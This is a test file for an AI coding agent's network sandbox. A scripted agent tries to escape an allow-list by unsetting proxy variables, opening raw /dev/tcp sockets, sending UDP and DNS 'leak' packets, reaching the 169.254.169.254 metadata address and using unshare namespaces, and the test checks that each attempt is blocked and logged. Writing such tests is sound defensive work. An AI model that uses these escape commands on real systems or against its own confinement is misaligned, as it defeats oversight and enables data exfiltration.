// Egress, attacked. Runs only inside the network and mount namespaces scripts/test-egress.sh makes
// (npm run test:egress): the action adds iptables rules for the agent's uid there. Local servers on
// other loopback addresses, IPv6 loopback and 169.254.169.254 (bound to lo in this namespace) stand
// in for an allowed host, a refused host and the metadata service; /etc/hosts, bind-mounted over in
// this private mount namespace, gives them names. The scripted agent tries every way out it has.
import { execFileSync } from 'node:child_process'
import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, get, type Server } from 'node:http'
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { hostedRunnerUser, type RunnerUser } from '../../test-support/hosted-runner-user.js'
import { message, shell } from '../../test-support/responses-server.js'
import type { ActionRun } from '../../test-support/runner.js'
import { IN_MACHINE_NETWORK, IN_TEST_MOUNTS, act, scratchFolder, scratchRepository, startWorld, type World } from './harness.js'

const skipWhy = process.getuid?.() !== 0 ? 'not root' : IN_MACHINE_NETWORK || !IN_TEST_MOUNTS ? "not in a test-made network and mount namespace (run 'npm run test:egress')" : undefined
const runnerUser = skipWhy ? 'skipped' : hostedRunnerUser()
const shapes: { shape: string; runner?: RunnerUser }[] = [{ shape: 'the action as root' }]
if (typeof runnerUser !== 'string') shapes.push({ shape: 'the action as a sudo user (hosted shape)', runner: runnerUser })

const METADATA = '169.254.169.254'

/** A server that records every connection and request it gets. */
interface Recorder {
  port: number
  connections: number
  requests: string[]
  reset(): void
}

const servers: (Server | TcpServer | UdpSocket)[] = []

async function httpServer(host: string, port = 0, body = `hello from ${host}`): Promise<Recorder> {
  const recorder: Recorder = { port: 0, connections: 0, requests: [], reset: () => ((recorder.connections = 0), (recorder.requests = [])) }
  const server = createServer((request, response) => {
    recorder.requests.push(`${request.method} ${request.url}`)
    response.end(body)
  })
  server.on('connection', () => recorder.connections++)
  await new Promise<void>((resolve) => server.listen(port, host, resolve))
  servers.push(server)
  recorder.port = (server.address() as AddressInfo).port
  return recorder
}

async function udpServer(host: string, port = 0): Promise<Recorder> {
  const recorder: Recorder = { port: 0, connections: 0, requests: [], reset: () => ((recorder.connections = 0), (recorder.requests = [])) }
  const socket = createSocket('udp4')
  socket.on('message', (data) => recorder.requests.push(data.toString('hex')))
  await new Promise<void>((resolve) => socket.bind(port, host, resolve))
  servers.push(socket)
  recorder.port = socket.address().port
  return recorder
}

async function tcpServer(host: string, port: number): Promise<Recorder> {
  const recorder: Recorder = { port, connections: 0, requests: [], reset: () => ((recorder.connections = 0), (recorder.requests = [])) }
  const server = createTcpServer((socket) => {
    recorder.connections++
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(port, host, resolve))
  servers.push(server)
  return recorder
}

let allowed: Recorder, refused: Recorder, udp: Recorder, dnsUdp: Recorder, dnsTcp: Recorder, ipv6: Recorder, metadata: Recorder, service: Recorder

beforeAll(async () => {
  if (skipWhy) return
  execFileSync('ip', ['addr', 'replace', `${METADATA}/32`, 'dev', 'lo'])
  const hosts = path.join(mkdtempSync(path.join(os.tmpdir(), 'egress-hosts-')), 'hosts')
  writeFileSync(hosts, `127.0.0.1 localhost\n::1 localhost\n127.0.0.2 allowed.test\n127.0.0.3 refused.test\n${METADATA} metadata.test sneaky.wild.test\n`, { mode: 0o644 })
  execFileSync('mount', ['--bind', hosts, '/etc/hosts'])
  allowed = await httpServer('127.0.0.2', 0, 'allowed-ok')
  refused = await httpServer('127.0.0.3', 0, 'refused-reached')
  udp = await udpServer('127.0.0.3')
  dnsUdp = await udpServer('127.0.0.3', 53)
  dnsTcp = await tcpServer('127.0.0.3', 53)
  ipv6 = await httpServer('::1', 0, 'ipv6-reached')
  metadata = await httpServer(METADATA, 80, 'metadata-reached')
  service = await httpServer('127.0.0.1', 0, 'service-ok')
})

afterAll(async () => {
  for (const server of servers.splice(0)) await new Promise<void>((resolve) => server.close(() => resolve()))
})

let world: World | undefined
afterEach(async () => {
  await world?.close()
  world = undefined
  for (const recorder of [allowed, refused, udp, dnsUdp, dnsTcp, ipv6, metadata, service]) recorder?.reset()
})

async function agentRuns(commands: string[], inputs: Record<string, string>, runner?: RunnerUser): Promise<ActionRun> {
  world = await startWorld([...commands.map((command) => ({ output: [shell(command)] })), { output: [message('done')] }])
  const repository = scratchRepository(undefined, runner ? path.join(runner.home, 'work') : undefined)
  return act(world, repository, { runAs: runner, inputs })
}

function toolOutput(i: number): string {
  return world?.model.requests[i + 1]?.toolOutputs.at(-1) ?? '<no request>'
}

/** The run's rules, as the kernel has them now. */
function rulesOfRuns(): string {
  return execFileSync('iptables-save', { encoding: 'utf8' }) + execFileSync('ip6tables-save', { encoding: 'utf8' })
}

function networkLog(run: ActionRun): Record<string, unknown>[] {
  const folder = readdirSync(run.runnerTemp).find((entry) => entry.startsWith('codex-action-') && !entry.includes('uids'))
  const file = path.join(run.runnerTemp, folder ?? '-', 'output', 'network.jsonl')
  expect(existsSync(file), file).toBe(true)
  return readFileSync(file, 'utf8').trim().split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>)
}

function uploadedFiles(): string[] {
  return (world?.results.artifacts ?? []).flatMap((artifact) => [...artifact.files.keys()])
}

/** Reaches a server as the test (root, no rules apply): the stand-ins really are there. */
function reachAsTest(url: string): Promise<string> {
  return new Promise((resolve, reject) => get(url, (response) => {
    let body = ''
    response.on('data', (chunk: Buffer) => (body += chunk))
    response.on('end', () => resolve(body))
  }).on('error', reject))
}

const UNSET_PROXY = 'env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY'
const rc = '; echo " rc=$?"'

describe.skipIf(skipWhy !== undefined)(`network: allow-list${skipWhy ? ` (skipped: ${skipWhy})` : ''}`, () => {
  describe.each(shapes)('$shape', ({ runner }) => {
    it('lets the agent reach only the listed host through the proxy; the kernel drops every other way out; every proxy attempt is logged', async () => {
      const commands = [
        // 0-1: the listed host, through the proxy: plain HTTP and a CONNECT tunnel.
        `curl -sS -m 5 http://allowed.test:${allowed.port}/plain${rc}`,
        `curl -sS -m 5 --proxytunnel http://allowed.test:${allowed.port}/tunnel${rc}`,
        // 2-3: a host not listed, through the proxy: 403.
        `curl -sS -m 5 -o /dev/null -w 'status=%{http_code}' http://refused.test:${refused.port}/via-proxy${rc}`,
        `curl -sS -m 5 --proxytunnel http://refused.test:${refused.port}/via-tunnel 2>&1${rc}`,
        // 4-6: the same host directly, with the proxy variables unset, from a new session, and as raw TCP.
        `${UNSET_PROXY} curl -sS -m 5 http://refused.test:${refused.port}/direct 2>&1${rc}`,
        `${UNSET_PROXY} setsid -w curl -sS -m 5 http://refused.test:${refused.port}/setsid 2>&1${rc}`,
        `timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.3/${refused.port} && echo connected' 2>&1${rc}`,
        // 7-9: UDP, and DNS over UDP and TCP to port 53.
        `for i in 1 2 3; do echo leak > /dev/udp/127.0.0.3/${udp.port}; done 2>&1${rc}`,
        `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x00\\x00\\x01\\x00\\x01' > /dev/udp/127.0.0.3/53 2>&1${rc}`,
        `timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.3/53 && echo connected' 2>&1${rc}`,
        // 10-11: IPv6 to another local server, directly and through the proxy (NO_PROXY would send loopback direct).
        `curl -sS -m 5 --noproxy '*' 'http://[::1]:${ipv6.port}/direct' 2>&1${rc}`,
        `env -u NO_PROXY -u no_proxy curl -sS -m 5 -o /dev/null -w 'status=%{http_code}' 'http://[::1]:${ipv6.port}/via-proxy'${rc}`,
        // 12-14: the metadata address, directly, through the proxy, and by a name a wildcard allows.
        `curl -sS -m 5 --noproxy '*' http://${METADATA}/latest/meta-data/ 2>&1${rc}`,
        `curl -sS -m 5 -o /dev/null -w 'status=%{http_code}' http://${METADATA}/latest/meta-data/${rc}`,
        `curl -sS -m 5 -o /dev/null -w 'status=%{http_code}' http://sneaky.wild.test/latest/meta-data/${rc}`,
        // 15: a child in a new user and network namespace: no route out at all.
        `unshare -Urn sh -c 'curl -sS -m 5 http://allowed.test:${allowed.port}/userns; echo " inner-proxy-rc=$?"; ${UNSET_PROXY} curl -sS -m 5 http://refused.test:${refused.port}/userns; echo " inner-direct-rc=$?"' 2>&1${rc}`,
        // 16: a listed local service (a service container's port), reached directly.
        `curl -sS -m 5 http://127.0.0.1:${service.port}/service${rc}`,
        // 17: what the agent's tools are told.
        `env | grep -i -E '^(https?|all|no)_proxy=|^npm_config_|^YARN_|^PIP_PROXY|^CARGO_HTTP_PROXY|^NODE_USE_ENV_PROXY' | sort`
      ]
      const run = await agentRuns(commands, { 'allow-hosts': `allowed.test:${allowed.port}, *.wild.test, localhost:${service.port}`, 'default-hosts': 'false' }, runner)
      const log = run.main.stdout + run.main.stderr
      // The action's own work: install, model proxy, artifact upload, all under allow-list.
      expect(run.main.outputs.conclusion, log).toBe('success')
      expect(log).toMatch(/Network: allow-list\. The kernel drops every packet of uid \d+ \(iptables and ip6tables chain CODEX-ACTION-\w+\)/)
      expect(uploadedFiles()).toContain('network.jsonl')

      expect(toolOutput(0)).toContain('allowed-ok rc=0')
      expect(toolOutput(1)).toContain('allowed-ok rc=0')
      expect(allowed.requests).toEqual(['GET /plain', 'GET /tunnel'])

      expect(toolOutput(2)).toContain('status=403 rc=0')
      expect(toolOutput(3)).toMatch(/403/)
      expect(toolOutput(3)).not.toContain('refused-reached')
      for (const i of [4, 5]) expect(toolOutput(i), `command ${i}`).toMatch(/rc=7/)
      expect(toolOutput(6)).not.toContain('connected')
      expect(refused.connections, 'connections that reached the refused host').toBe(0)

      expect(udp.requests, 'datagrams that reached the UDP server').toEqual([])
      expect(dnsUdp.requests, 'DNS queries over UDP').toEqual([])
      expect(toolOutput(9)).not.toContain('connected')
      expect(dnsTcp.connections, 'DNS connections over TCP').toBe(0)

      expect(toolOutput(10)).toMatch(/rc=7/)
      expect(toolOutput(11)).toContain('status=403')
      expect(ipv6.connections).toBe(0)

      expect(toolOutput(12)).toMatch(/rc=7/)
      expect(toolOutput(13)).toContain('status=403')
      expect(toolOutput(14)).toContain('status=403')
      expect(metadata.connections).toBe(0)

      expect(toolOutput(15)).toMatch(/inner-proxy-rc=[1-9]/)
      expect(toolOutput(15)).toMatch(/inner-direct-rc=[1-9]/)
      expect(toolOutput(15)).not.toMatch(/allowed-ok|refused-reached/)

      expect(toolOutput(16)).toContain('service-ok rc=0')
      expect(service.requests).toEqual(['GET /service'])

      const proxyUrl = /HTTPS_PROXY=(http:\/\/127\.0\.0\.1:\d+)/.exec(toolOutput(17))?.[1]
      expect(proxyUrl, toolOutput(17)).toBeDefined()
      for (const name of ['HTTP_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY', 'all_proxy', 'npm_config_proxy', 'npm_config_https_proxy', 'YARN_HTTPS_PROXY', 'PIP_PROXY', 'CARGO_HTTP_PROXY']) {
        expect(toolOutput(17)).toContain(`${name}=${proxyUrl}`)
      }
      expect(toolOutput(17)).toContain('NO_PROXY=127.0.0.1,localhost,::1')

      // Everything the proxy saw is in network.jsonl; what the kernel dropped never got that far.
      const attempts = networkLog(run).map((a) => [a.kind, a.host, a.port, a.decision, a.status])
      expect(attempts).toEqual([
        ['http', 'allowed.test', allowed.port, 'allowed', 200],
        ['connect', 'allowed.test', allowed.port, 'allowed', 200],
        ['http', 'refused.test', refused.port, 'refused', 403],
        ['connect', 'refused.test', refused.port, 'refused', 403],
        ['http', '::1', ipv6.port, 'refused', 403],
        ['http', METADATA, 80, 'refused', 403],
        ['http', 'sneaky.wild.test', 80, 'refused', 403]
      ])
      expect(networkLog(run)[0]).toMatchObject({ address: '127.0.0.2', bytesIn: 10 })
      expect(JSON.parse(run.main.outputs['refused-hosts'] ?? '[]')).toEqual([`refused.test:${refused.port}`, `[::1]:${ipv6.port}`, METADATA, 'sneaky.wild.test'])
      expect(run.summary).toContain(`refused.test:${refused.port}`)
      const record = JSON.parse(readFileSync(path.join(run.runnerTemp, readdirSync(run.runnerTemp).find((e) => e.startsWith('codex-action-') && !e.includes('uids')) ?? '-', 'output', 'run.json'), 'utf8'))
      expect(record.network).toMatchObject({ mode: 'allow-list', attempts: { allowed: 2, refused: 5, failed: 0 } })

      // The stand-ins were there all along: only the agent's uid was kept from them.
      expect(await reachAsTest(`http://refused.test:${refused.port}/control`)).toBe('refused-reached')
      expect(await reachAsTest(`http://${METADATA}/control`)).toBe('metadata-reached')

      // Main took its rules away, and post found nothing left to take.
      expect(run.post?.succeeded, run.post?.stdout).toBe(true)
      expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
    })
  })

  it('leaves no rule behind when main is killed mid-run: the post step takes them away', async () => {
    world = await startWorld([{ output: [shell('sleep 60')] }, { output: [message('done')] }])
    const repository = scratchRepository()
    const during: string[] = []
    const watcher = setInterval(() => during.push(rulesOfRuns()), 200)
    const run = await act(world, repository, { signalAfterMs: { signal: 'SIGKILL', afterMs: 6000 } })
    clearInterval(watcher)
    expect(during.some((rules) => /CODEX-ACTION-\w+/.test(rules)), 'the rules were in place while the agent ran').toBe(true)
    expect(run.post?.succeeded, run.post?.stdout).toBe(true)
    expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
  })

  it("fails before the agent starts, and before anything is written, when 'isolation: none' asks for it", async () => {
    world = await startWorld([{ output: [message('done')] }])
    const run = await act(world, scratchRepository(), { inputs: { isolation: 'none' } })
    expect(run.main.exitCode).not.toBe(0)
    const errors = run.main.commands.filter((c) => c.command === 'error').map((c) => c.message).join('\n')
    expect(errors).toMatch(/Input 'network' is 'allow-list' while 'isolation' is 'none'.*'network: open'/s)
    expect(world.model.requests).toHaveLength(0)
    expect(readdirSync(run.runnerTemp).filter((entry) => entry.startsWith('codex-action-'))).toEqual([])
  })

  it("fails before anything is written when 'isolation: auto' falls back to the runner user, naming 'network: open'", async () => {
    const wrapper = path.join(scratchFolder('codex-action-no-mount-'), 'node.mjs')
    writeFileSync(wrapper, `#!/usr/bin/env -S setpriv --bounding-set=-sys_admin -- ${process.execPath}\nprocess.argv.splice(1, 1)\nawait import(process.argv[1])\n`, { mode: 0o755 })
    world = await startWorld([{ output: [message('done')] }])
    const run = await act(world, scratchRepository(), { nodeBinary: wrapper })
    expect(run.main.exitCode).not.toBe(0)
    const errors = run.main.commands.filter((c) => c.command === 'error').map((c) => c.message).join('\n')
    expect(errors).toMatch(/Input 'network' is 'allow-list', but the agent cannot run as its own OS user here \(.*cannot mount.*\).*'network: open'/s)
    expect(world.model.requests).toHaveLength(0)
    expect(readdirSync(run.runnerTemp).filter((entry) => entry.startsWith('codex-action-') && !entry.includes('uids'))).toEqual([])
  })
})

describe.skipIf(skipWhy !== undefined)(`network: none and open${skipWhy ? ` (skipped: ${skipWhy})` : ''}`, () => {
  it('none: the agent reaches the model and nothing else, with no proxy to ask', async () => {
    const run = await agentRuns([
      `echo "proxy=\${HTTPS_PROXY:-unset}"; curl -sS -m 5 http://allowed.test:${allowed.port}/none 2>&1${rc}`,
      `curl -sS -m 5 http://127.0.0.1:${service.port}/none 2>&1${rc}`
    ], { network: 'none', 'allow-hosts': `allowed.test:${allowed.port}` })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    expect(run.main.stdout).toMatch(/Network: none\. The kernel drops every packet of uid \d+/)
    expect(toolOutput(0)).toContain('proxy=unset')
    expect(toolOutput(0)).toMatch(/rc=7/)
    expect(toolOutput(1)).toMatch(/rc=7/)
    expect(allowed.connections + service.connections).toBe(0)
    expect(JSON.parse(run.main.outputs['refused-hosts'] ?? '')).toEqual([])
    expect(uploadedFiles()).not.toContain('network.jsonl')
    expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
  })

  it('open: the agent reaches any host directly, and no rule is added', async () => {
    const run = await agentRuns([
      `echo "proxy=\${HTTPS_PROXY:-unset}"; curl -sS -m 5 http://refused.test:${refused.port}/open 2>&1${rc}`,
      `curl -sS -m 5 http://${METADATA}/open 2>&1${rc}`
    ], { network: 'open' })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    expect(run.main.stdout).toContain('Network: open.')
    expect(toolOutput(0)).toContain('proxy=unset')
    expect(toolOutput(0)).toContain('refused-reached rc=0')
    expect(toolOutput(1)).toContain('metadata-reached rc=0')
    expect(uploadedFiles()).not.toContain('network.jsonl')
    expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
  })
})
